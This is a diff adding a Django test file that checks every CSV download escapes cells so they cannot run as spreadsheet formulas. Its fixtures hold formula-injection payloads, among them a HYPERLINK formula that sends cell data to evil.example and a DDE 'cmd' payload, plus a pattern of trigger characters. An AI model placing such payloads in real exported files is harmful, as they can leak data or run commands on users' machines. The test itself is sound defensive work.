@@ -1,0 +1,115 @@
+"""No cell of any CSV file that can be downloaded runs as a formula, whoever chose the text in it."""
+
+import csv
+import re
+from io import StringIO
+
+import pytest
+from django.conf import settings
+from django.urls import reverse
+
+from accounts.models import Team, User
+from tests.access.objects import OBJECTS, World
+from tests.access.pages import PAGES
+from tests.transfers.cast import signed_in
+from transfers.models import DraftRow, PairState, TransferPair
+
+pytestmark = pytest.mark.django_db
+
+# OWASP's signs, also in full width and behind what a spreadsheet passes over.
+SIGNS = tuple("=+-@\t\r\n＝＋－＠")
+HARMLESS = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+EVIL = [
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    " =1+1",
+    "\u200b=1",
+    "＝1+1",
+]
+
+
+def runs(cell: str) -> bool:
+    """Told by another way than the writer does: what a spreadsheet sees first, after all that it passes over."""
+    seen = cell.lstrip("\u200b\u200e\u200f\u2060\ufeff \u00a0\u3000")
+    return cell.startswith(SIGNS) or (seen.startswith(SIGNS) and not HARMLESS.fullmatch(cell))
+
+
+@pytest.fixture
+def world() -> World:
+    """Everybody and everything bears the name of a formula."""
+    world = World()
+    for number, user in enumerate(User.objects.order_by("pk")):
+        evil = EVIL[number % len(EVIL)]
+        user.first_name, user.last_name, user.username = evil, evil, f"{evil}{number}"
+        user.save()
+    for team in Team.objects.all():
+        team.name = f"=1+{team.pk}"
+        team.save()
+    world.tara.refresh_from_db()
+    world.zoe.refresh_from_db()
+    return world
+
+
+def poison() -> None:
+    """What is kept of a pair and of a file."""
+    TransferPair.objects.update(source_name=EVIL[0], target_name=EVIL[1])
+    TransferPair.objects.filter(state=PairState.FAILED).update(
+        code="=code",
+        reason=EVIL[2],
+        remedy=EVIL[4],
+        data_type=EVIL[3][:50],
+    )
+    DraftRow.objects.update(from_text=EVIL[0], to_text=EVIL[3], from_id=None, to_id=None, status="error")
+
+
+def downloads(world: World) -> dict[str, str]:
+    """By URL name, what every page answers that answers with CSV."""
+    client = signed_in(world.tara)
+    found = {}
+    for page in PAGES:
+        values = {name: OBJECTS[name](world, world.tara, "own", page.name) for name in page.parameters}
+        poison()
+        answer = client.get(reverse(page.name, kwargs=values))
+        if "csv" in answer.get("Content-Type", "") + answer.get("Content-Disposition", ""):
+            content = b"".join(answer.streaming_content) if answer.streaming else answer.content
+            found[page.name] = content.decode("utf-8-sig")
+    return found
+
+
+def test_no_cell_of_any_download_is_a_formula(world: World) -> None:
+    found = downloads(world)
+    for name, content in found.items():
+        rows = list(csv.reader(StringIO(content, newline=""), strict=True))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert any(cell.startswith("'") for cell in cells), f"{name}: no text of this test is in it"
+        assert [cell for cell in cells if runs(cell)] == [], name
+    assert set(found) == {
+        "transfers:audit-download",
+        "transfers:people-export",
+        "transfers:preview-errors",
+        "transfers:transfer-errors",
+        "transfers:transfer-log",
+        "transfers:transfer-retry-file",
+        "user_import:users-csv",
+    }
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_this_test_knows_a_formula(evil: str) -> None:
+    assert runs(evil)
+    assert not runs(f"'{evil}")
+
+
+def test_there_is_one_writer() -> None:
+    """`csv.writer` stands in one module, so that no file is written past it, by a page or by a command."""
+    writing = re.compile(r"csv\.(writer|DictWriter)\(")
+    code = [
+        path
+        for top in ("accounts", "transfers", "transfer_site", "user_import")
+        for path in (settings.BASE_DIR / top).rglob("*.py")
+    ]
+    writers = [str(path.relative_to(settings.BASE_DIR)) for path in code if writing.search(path.read_text())]
+    assert writers == ["transfers/people_csv/writer.py"]
